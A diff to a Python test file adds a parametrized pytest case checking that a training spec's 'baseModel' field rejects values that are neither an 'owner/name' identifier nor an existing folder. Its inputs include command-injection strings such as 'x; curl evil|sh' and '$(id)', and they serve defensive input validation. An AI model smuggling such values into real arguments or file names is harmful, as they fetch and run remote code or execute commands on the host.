@@ -226,6 +226,16 @@ def test_only_the_models_that_the_admin_allows_are_trained_from(
     assert caught.value.field == "baseModel"
 
 
+@pytest.mark.parametrize("model", ["x; curl evil|sh", "$(id)", "a b", "my/model/of/mine"])
+def test_a_model_that_is_neither_a_name_nor_a_folder_is_refused(tmp_path: Path, model: str) -> None:
+    whole = spec.complete({"baseModel": model}, DATA)
+    with pytest.raises(InvalidSpec, match="owner/name") as caught:
+        spec.resolve_paths(whole, [tmp_path])
+    assert caught.value.field == "baseModel"
+    (tmp_path / model).mkdir(parents=True)
+    assert spec.resolve_paths(whole, [tmp_path])["baseModel"] == str(tmp_path / model)
+
+
 def test_the_trainer_understands_every_argument() -> None:
     from lastwords.trainer.arguments import parse
 
